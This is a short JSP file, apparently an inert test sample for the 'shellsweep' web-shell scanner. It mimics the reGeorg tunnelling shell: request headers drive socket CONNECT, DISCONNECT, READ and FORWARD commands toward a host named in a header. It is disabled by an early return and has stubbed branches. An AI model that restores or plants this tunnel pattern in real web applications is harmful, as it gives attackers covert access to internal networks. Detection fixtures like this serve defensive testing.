<%@page import="java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel"%>
<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
String cmd = request.getHeader("X-CMD");
if (cmd != null) {
  if (cmd.compareTo("CONNECT") == 0) { SocketChannel sc = SocketChannel.open(); sc.connect(new InetSocketAddress(request.getHeader("X-TARGET"), 80)); session.setAttribute("socket", sc); response.setHeader("X-STATUS", "OK"); }
  else if (cmd.compareTo("DISCONNECT") == 0) { session.invalidate(); }
  else if (cmd.compareTo("READ") == 0) { }
  else if (cmd.compareTo("FORWARD") == 0) { request.getInputStream(); }
} else { out.print("Georg says, 'All seems fine'"); }
%>
